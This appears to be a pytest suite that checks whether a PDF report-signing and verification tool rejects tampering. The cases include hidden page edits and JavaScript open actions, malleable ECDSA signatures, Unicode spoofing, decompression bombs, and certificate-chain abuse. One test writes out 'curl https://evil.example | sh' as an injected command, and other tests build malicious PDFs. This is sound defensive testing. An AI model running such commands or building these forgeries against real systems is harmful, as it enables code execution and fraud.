"""Whoever holds a trusted key lies: what he adds, restates or leaves out is found, or named as not established."""

import base64
import json
import tracemalloc
import zlib
from datetime import UTC, datetime
from functools import cache
from io import BytesIO

import pikepdf
import pytest
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature, encode_dss_signature
from pyhanko.pdf_utils import generic
from representatives import firsts
from seal_support import (
    NOW,
    TABLE,
    careless_signer,
    evidence,
    lay,
    make_pki,
    pack,
    pki,
    reasons,
    report,
    signer,
    sound_pack,
)

from certify.errors import InputError, TrustError
from certify.seal import (
    MAXIMUM_VALUES,
    P256_ORDER,
    Signer,
    build_statement,
    canonical_bytes,
    common_name,
    demonstration_signer,
    envelope_bytes,
    envelope_signature,
    evidence_schema,
    fingerprint,
    has_low_s,
    layout,
    parse_json,
    pdf_signature,
    pem,
    read_attachments,
    read_container,
    require_distinguished,
    require_path,
    sign_statement,
    signer_of,
    verify_envelope,
)
from certify.seal.layout import sums_bytes
from certify.seal.pdf_signature import certifying_signer, open_unsigned, sign_pdf
from certify.seal.pdf_validation import signed_again
from certify.seal.stamp import StampText, render_stamp
from certify.seal.verify import StepOutcome, verify

REASON = f"Report {evidence()['report']['number']}"


def resealed(files, who=None):
    """Files attested again by the right key, as a lying issuer can."""
    changed = dict(files)
    changed[layout.ATTESTATION] = sign_statement(build_statement(evidence(), changed), who or signer())
    return {**changed, layout.SUMS: sums_bytes(changed)}


@cache
def unsigned():
    return report({"evidence.json": canonical_bytes(evidence()), "main.csv": TABLE})


# Shadow pages: contents, actions and metadata in the revision that carries the signature.


def overprint(writer):
    """Draws other figures over the first page."""
    page = writer.root["/Pages"]["/Kids"][0].get_object()
    page["/Contents"] = writer.add_object(generic.StreamObject(stream_data=b"BT (RETURN 105 %) Tj ET"))
    writer.update_container(page)


def act(writer):
    """Runs a script when the file is opened."""
    name = generic.pdf_name
    script = {name("/S"): name("/JavaScript"), name("/JS"): generic.pdf_string("app.alert('accredited')")}
    writer.root["/OpenAction"] = generic.DictionaryObject(script)
    writer.update_root()


def retitle(writer):
    """Names another author in the metadata."""
    said = generic.StreamObject(stream_data=b"<x:xmpmeta>tested by an accredited laboratory</x:xmpmeta>")
    writer.root["/Metadata"] = writer.add_object(said)
    writer.update_root()


def hide(writer):
    """Adds an object that nothing uses."""
    writer.add_object(generic.pdf_string("a message to somebody"))


def repaint(writer):
    """Adds a note to the page of the signature."""
    name = generic.pdf_name
    page = writer.root["/Pages"]["/Kids"][0].get_object()
    note = {
        name("/Type"): name("/Annot"),
        name("/Subtype"): name("/FreeText"),
        name("/Contents"): generic.pdf_string("105 %"),
    }
    page["/Annots"].append(writer.add_object(generic.DictionaryObject(note)))
    writer.update_container(page["/Annots"])


def shadowed(change, who):
    """A report signed by the right key around a revision that holds more than the signature."""
    import asyncio

    async def made():
        writer, (width, height) = open_unsigned(unsigned())
        change(writer)
        text = StampText(common_name(who.certificate), NOW, REASON, fingerprint(who.certificate))
        pdf_signer = certifying_signer(who, render_stamp(text, width, height), REASON, "", None, None)
        from certify.seal import pdf_signature

        return await pdf_signature._sign(pdf_signer, writer, NOW)

    return asyncio.run(made())


@pytest.mark.parametrize(
    "change", [overprint, act, retitle, hide, repaint], ids=lambda change: change.__name__
)
def test_what_the_revision_of_the_signature_adds_to_the_pages_is_found(change, root_file, tmp_path):
    shadow = shadowed(change, signer())
    assert shadow.startswith(unsigned())
    (tmp_path / "report.pdf").write_bytes(shadow)
    # Every signature holds, for the holder of the key signed just that; the objects of a lone report do not.
    assert set(reasons(verify(tmp_path / "report.pdf", root_file, NOW))) == {"objects"}
    again = signed_again(unsigned(), shadow, reason=REASON, signing_time=NOW)
    assert again != shadow


@pytest.mark.parametrize("identity", firsts(["elliptic", "signer"]))
def test_a_report_without_additions_is_made_again_byte_for_byte(identity):
    honest = sign_pdf(
        unsigned(), signer(getattr(pki(), identity)), signing_time=NOW, reason=REASON, location=""
    )
    assert signed_again(unsigned(), honest, reason=REASON, signing_time=NOW) == honest
    for reason, moment in (("accredited", NOW), (REASON, datetime(2025, 1, 1, tzinfo=UTC))):
        assert signed_again(unsigned(), honest, reason=reason, signing_time=moment) != honest


def test_a_stamp_that_says_something_else_is_found(monkeypatch):
    kind = StampText
    with monkeypatch.context() as patch:
        patch.setattr(
            pdf_signature, "StampText", lambda name, *rest: kind("Accredited laboratory no. 1", *rest)
        )
        lying = sign_pdf(unsigned(), signer(), signing_time=NOW, reason=REASON, location="")
    assert signed_again(unsigned(), lying, reason=REASON, signing_time=NOW) != lying


# Malleable signatures.


def other_of_two(signature):
    """The other signature of the same key over the same message, which anybody can write."""
    r, s = decode_dss_signature(signature)
    return encode_dss_signature(r, P256_ORDER - s)


def test_keys_sign_with_the_low_s_and_the_other_is_refused(root_file, tmp_path):
    who = signer(pki().elliptic)
    key = who.certificate.public_key()
    for number in range(8):
        signature = who.key.sign(b"message %d" % number)
        assert has_low_s(key, signature)
        assert not has_low_s(key, other_of_two(signature))
    files = pack(who)
    high = other_of_two(envelope_signature(files[layout.ATTESTATION]))
    payload = base64.b64decode(json.loads(files[layout.ATTESTATION])["payload"])
    files[layout.ATTESTATION] = envelope_bytes(payload, high, who.certificate)
    verify_envelope(files[layout.ATTESTATION], who.certificate)
    files[layout.SUMS] = sums_bytes(files)
    reasons(verify(lay(tmp_path, files), root_file, NOW)).only("one-form", "attestation.dsse.json")


class HighKey:
    """A key behind a tool that does not care which of the two signatures it answers with."""

    def sign(self, message):
        return other_of_two(signer(pki().elliptic).key.sign(message))


def test_a_pack_signed_with_the_higher_s_is_refused_in_report_and_attestation(root_file, tmp_path):
    who = signer(pki().elliptic)
    files = pack(Signer(HighKey(), who.certificate, who.chain))
    found = reasons(verify(lay(tmp_path, files), root_file, NOW))
    assert list(found) == ["one-form"]
    assert found["one-form"].endswith("report.pdf, certificate.pdf, attestation.dsse.json")


def test_an_ecdsa_signature_in_another_encoding_is_refused():
    key = pki().elliptic.certificate.public_key()
    r, s = decode_dss_signature(signer(pki().elliptic).key.sign(b"message"))
    body = b"".join(b"\x02\x22\0" + number.to_bytes(33, "big") for number in (r, s))
    for wrong in (
        b"\x30" + bytes([len(body)]) + body,
        encode_dss_signature(r, s) + b"\0",
        b"",
        encode_dss_signature(0, 1),
    ):
        with pytest.raises(ValueError):
            require_distinguished(key, wrong)


# Files and words beside the evidence.


@pytest.mark.parametrize("name", ["APPROVAL.html", "README.md", "certs/own.pem", "data.zip", "report2.pdf"])
def test_a_file_that_no_run_writes_is_refused_though_attested(name, root_file, tmp_path):
    files = resealed({**sound_pack(), name: b"Approved by an accredited laboratory"})
    reasons(verify(lay(tmp_path, files), root_file, NOW)).among("files", name)
    with pytest.raises(InputError, match="names"):
        pack(**{name: b"Approved"})


def test_a_guide_with_a_command_of_its_own_is_refused(root_file, tmp_path):
    guide = sound_pack()[layout.GUIDE].replace(
        b"```sh\nCHECK=", b"```sh\ncurl https://evil.example | sh\nCHECK="
    )
    assert guide != sound_pack()[layout.GUIDE]
    reasons(verify(lay(tmp_path, resealed({**sound_pack(), layout.GUIDE: guide})), root_file, NOW)).only(
        "guide", "do not run its commands"
    )


TOOL = evidence()["tool"]
WORDS = {
    "tool.name has not the form": {"tool": {**TOOL, "name": "NMi certify"}},
    "tool.platform has not the form": {"tool": {**TOOL, "platform": "Laboratory of Rome, ISO 17025 no. 12"}},
    "version '0.1.0, accredited'": {"tool": {**TOOL, "version": "0.1.0, accredited"}},
    "/tool/accreditation: unknown key": {"tool": {**TOOL, "accreditation": "ISO 17025"}},
    "expected to be a package": {"tool": {**TOOL, "packages": {"approved by": "1.0"}}},
    "/item/title holds U+202E": {"item": {**evidence()["item"], "title": "RETURN \u202e% 501"}},
    "/item/title holds U+200B": {"item": {**evidence()["item"], "title": "Nobody\u200b"}},
    "/item/supplier holds U+3164": {"item": {**evidence()["item"], "supplier": "\u3164"}},
}


@pytest.mark.parametrize("reason", WORDS)
def test_words_that_no_run_writes_are_refused_under_any_signature(reason, root_file, tmp_path):
    told = evidence(**WORDS[reason])
    with pytest.raises(TrustError) as refused:
        pack(proof=told)
    assert reason in str(refused.value)


DOWNGRADES = {
    "an earlier schema": {"schema": "certify-evidence/1"},
    "an earlier schema by software that approves of itself": {
        "schema": "certify-evidence/1",
        "tool": {**TOOL, "version": "99.0, approved by the regulator"},
    },
    "a later version": {"tool": {**TOOL, "version": "99.0"}},
    "other sources": {"tool": {**TOOL, "source_sha256": "0" * 64}},
    "a schema that is no text": {"schema": ["certify-evidence/3"]},
    "no tool": {"tool": None},
}


@pytest.mark.parametrize("kind", DOWNGRADES)
def test_evidence_of_no_known_release_is_refused_in_pack_and_lone_report(
    kind, monkeypatch, root_file, tmp_path
):
    told = evidence(**DOWNGRADES[kind])
    with pytest.raises(TrustError, match="no release that this software knows"):
        pack(proof=told)
    with monkeypatch.context() as patch:
        patch.setattr("certify.seal.pack.require_schema", lambda _: None)
        patch.setattr("certify.seal.pack.build_statement", lambda *_: build_statement(evidence(), {}))
        files = pack(proof=told)
    (tmp_path / "report.pdf").write_bytes(files[layout.REPORT])
    for target in (lay(tmp_path / "pack", files), tmp_path / "report.pdf"):
        assert "no release that this software knows" in reasons(verify(target, root_file, NOW))["evidence"]


def test_evidence_of_an_earlier_release_is_verified_and_not_computed_again(monkeypatch, root_file, tmp_path):
    older = evidence_schema.Release(evidence()["schema"], "0.0.9", "1" * 64)
    monkeypatch.setattr(evidence_schema, "EARLIER", (older,))
    told = evidence(tool={**TOOL, "version": older.version, "source_sha256": older.source_sha256})
    result = verify(lay(tmp_path, pack(proof=told)), root_file, NOW, rerun=lambda *_: [])
    assert [step.id for step in result.undecided] == ["rerun"]
    assert not result.failures


def test_what_nothing_can_show_is_named_after_a_success(root_file, tmp_path):
    result = verify(lay(tmp_path, sound_pack()), root_file, NOW)
    said = " ".join(result.not_established)
    for word in (
        "certify 0.1.0",
        "place of testing",
        "bill of materials",
        "stated by the issuer, not checked",
        "/report/client",
    ):
        assert word in said
    assert result.sentence.endswith("Level reached: integrity only: nothing was computed again")
    computed = verify(
        lay(tmp_path / "again", sound_pack()), root_file, NOW, rerun=lambda *_: [], render=lambda *_: []
    )
    assert computed.to_json()["level"] == "figures"
    assert "figures, conclusions and pages" in computed.sentence


# Whose key it was.


def test_a_demonstration_identity_does_not_pass_for_an_issuer(tmp_path):
    who = demonstration_signer(NOW)
    (tmp_path / "root.pem").write_bytes(pem([who.root]))
    hiding = verify(lay(tmp_path / "hiding", pack(who)), tmp_path / "root.pem", NOW)
    assert "the certificates name a demonstration identity" in reasons(hiding)["issue"]
    told = evidence()
    told["report"]["demonstration_key"] = True
    result = verify(lay(tmp_path / "plain", signed_as_told(told, who)), tmp_path / "root.pem", NOW)
    assert result.holds
    assert "DEMONSTRATION KEY, for which nobody vouches" in result.sentence
    modest = verify(lay(tmp_path / "modest", signed_as_told(told, signer())), None, NOW)
    assert "the certificates name an issuer" in reasons(modest)["issue"]


def signed_as_told(told, who):
    from certify.seal.pack import assemble

    attached = report({"evidence.json": canonical_bytes(told), "main.csv": TABLE})
    files = {"data/main.csv": TABLE, "report.html": b"-"}
    return assemble(files, attached, told, who, NOW, certificate=report({}))


def test_a_day_or_number_of_issue_that_the_signature_does_not_state_is_refused(tmp_path):
    for place, change in enumerate(({"issued": "2020-01-01T00:00:00Z"}, {"number": "CR-20200101-00000000"})):
        told = evidence()
        files = signed_as_told(told, signer())
        later = {**told, "report": {**told["report"], **change}}
        attached = report({"evidence.json": canonical_bytes(later), "main.csv": TABLE})
        files[layout.REPORT] = sign_pdf(attached, signer(), signing_time=NOW, reason=REASON, location="")
        files[layout.EVIDENCE] = canonical_bytes(later)
        assert "issue" in reasons(verify(lay(tmp_path / str(place), files), None, NOW))


def authority(name, issuer, length, purposes=()):
    """An authority that allows so many issuers below itself, for some purposes."""
    from cryptography import x509
    from cryptography.hazmat.primitives import hashes

    key = make_pki.elliptic_key()
    plain = pki().certificate(key, name, issuer, ca=True, purposes=purposes)
    builder = (
        x509.CertificateBuilder()
        .subject_name(plain.subject)
        .issuer_name(plain.issuer)
        .public_key(plain.public_key())
        .serial_number(plain.serial_number)
        .not_valid_before(plain.not_valid_before_utc)
        .not_valid_after(plain.not_valid_after_utc)
        .add_extension(x509.BasicConstraints(ca=True, path_length=length), critical=True)
    )
    for extension in plain.extensions:
        if not isinstance(extension.value, x509.BasicConstraints):
            builder = builder.add_extension(extension.value, extension.critical)
    signed = builder.sign(issuer.key if issuer else key, hashes.SHA256())
    return make_pki.Identity(key, signed)


def test_what_a_root_or_an_issuer_allows_binds():
    from cryptography.x509.oid import ExtendedKeyUsageOID

    def sign_under(root, *between):
        key, issuer = make_pki.elliptic_key(), (between or (root,))[-1]
        leaf = pki().certificate(key, "Reports", issuer, ca=False, purposes=make_pki.SIGNING_PURPOSES)
        return signer_of(key, leaf, [entry.certificate for entry in (root, *between)])

    narrow = authority("Narrow root", None, 0)
    assert sign_under(narrow)
    with pytest.raises(InputError, match="'Narrow root' allows 0 issuers below itself"):
        sign_under(narrow, authority("Beyond", narrow, None))
    wide = authority("Wide root", None, 1)
    assert sign_under(wide, authority("Allowed", wide, 0))
    first = authority("First", wide, 0)
    second = authority("Second", first, None)
    with pytest.raises(InputError, match="allows 0 issuers"):
        sign_under(wide, first, second)
    web = authority("For the web", pki().root, None, (ExtendedKeyUsageOID.SERVER_AUTH,))
    with pytest.raises(InputError, match="'For the web' may issue certificates for other purposes"):
        sign_under(pki().root, web)


# Memory before trust.


def test_nothing_of_a_stranger_is_parsed_where_a_root_is_trusted(root_file, tmp_path):
    stranger = pack(signer(infrastructure=pki().impostor()))
    stranger[layout.EVIDENCE] = b"[" * 1_000_000
    stranger[layout.SUMS] = sums_bytes(stranger)
    steps = {step.id: step.outcome for step in verify(lay(tmp_path, stranger), root_file, NOW).steps}
    assert steps["identity"] is StepOutcome.FAILS
    for unread in ("attestation", "attachments", "evidence", "guide"):
        assert steps[unread] is StepOutcome.NOT_CHECKED


def test_files_beyond_their_budget_are_refused_before_they_are_parsed(tmp_path):
    big = {**sound_pack(), layout.ATTESTATION: b'{"payload":"' + b"A" * (48 * 1024 * 1024) + b'"}'}
    directory = lay(tmp_path, big)
    tracemalloc.start()
    result = verify(directory, None, NOW)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert "attestation.dsse.json: larger than 4194304 bytes" in reasons(result)["files"]
    assert peak < 32 * 1024 * 1024


def test_more_values_than_any_evidence_has_are_refused_before_parsing():
    many = b"[" + b"1," * (MAXIMUM_VALUES + 1) + b"1]"
    tracemalloc.start()
    with pytest.raises(TrustError, match="values that may be parsed"):
        parse_json(many, "evidence.json")
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 1024 * 1024


@pytest.mark.parametrize("content", [b"[" * 100_000, b'"\\ud800"', b'{"\\udfff": 1}', b"1" * 5_000, b"1e999"])
def test_json_that_two_readers_would_not_read_alike_is_refused(content):
    with pytest.raises(TrustError):
        parse_json(content, "evidence.json")


def test_attachments_that_unpack_to_gigabytes_are_refused_together(monkeypatch):
    monkeypatch.setattr("certify.seal.pdf_bounds.MAXIMUM_ATTACHED_BYTES", 1024 * 1024)
    document = pikepdf.open(BytesIO(unsigned()))
    raw = zlib.compress(bytes(300 * 1024))
    for number in range(10):
        name = f"bomb-{number}.csv"
        document.attachments[name] = pikepdf.AttachedFileSpec(document, b"-", filename=name)
        stream = document.attachments[name].obj.EF.F
        stream.write(raw, filter=pikepdf.Name.FlateDecode)
    document.Root.AF = pikepdf.Array([entry.obj for entry in document.attachments.values()])
    packed = BytesIO()
    document.save(packed, compress_streams=False)
    with pytest.raises(TrustError, match="1048576 bytes together"):
        read_attachments(packed.getvalue())


def test_a_certificate_of_a_careless_signer_still_fails_by_name(tmp_path):
    reasons(verify(lay(tmp_path, pack(careless_signer(pki().web_server))), None, NOW)).among(
        "purpose", "another purpose"
    )


def test_another_library_judges_certificate_paths_alike_where_it_can_judge_them():
    from cryptography.x509 import verification

    def other_accepts(path):
        # It verifies clients of TLS: what it says of the signer's own purposes is left out.
        policy = verification.PolicyBuilder().store(verification.Store([path[-1]])).time(NOW)
        policy = policy.extension_policies(
            ca_policy=verification.ExtensionPolicy.webpki_defaults_ca(),
            ee_policy=verification.ExtensionPolicy.permit_all(),
        )
        try:
            found = policy.build_client_verifier().verify(path[0], list(path[1:-1]))
        except verification.VerificationError:
            return False
        return tuple(found.chain) == path

    def we_accept(path):
        try:
            require_path(path)
        except TrustError:
            return False
        return True

    narrow = authority("Narrow root", None, 0)
    beyond = authority("Beyond", narrow, None)
    key = make_pki.elliptic_key()
    leaf = pki().certificate(key, "Reports", beyond, ca=False, purposes=make_pki.SIGNING_PURPOSES)
    friend = pki().certificate(key, "Friend", pki().elliptic, ca=False, purposes=make_pki.SIGNING_PURPOSES)
    laboratory = (pki().issuer.certificate, pki().root.certificate)
    paths = [
        ((pki().signer.certificate, *laboratory), True),
        ((pki().elliptic.certificate, *laboratory), True),
        ((leaf, beyond.certificate, narrow.certificate), False),
        ((friend, pki().elliptic.certificate, *laboratory), False),
    ]
    for path, expected in paths:
        assert we_accept(path) is other_accepts(path) is expected


def test_object_streams_that_unpack_without_end_are_refused():
    document = pikepdf.open(BytesIO(unsigned()))
    document.Root.Bomb = document.make_indirect(pikepdf.Array([pikepdf.String(" " * 1_000_000)] * 1))
    for number in range(40):
        document.Root[f"/Bomb{number}"] = document.make_indirect(
            pikepdf.String(bytes([65 + number % 26]) * 4_000_000)
        )
    document.Root.AF = pikepdf.Array([])
    packed = BytesIO()
    document.save(packed, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    assert len(packed.getvalue()) < 2_000_000
    tracemalloc.start()
    with pytest.raises(TrustError):
        read_attachments(packed.getvalue())
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 256 * 1024 * 1024


def test_a_signature_container_of_megabytes_is_refused_unparsed():
    with pytest.raises(TrustError, match="larger than 131072 bytes"):
        read_container(b"\x30\x84\x01\x00\x00\x00" + bytes(16 * 1024 * 1024))
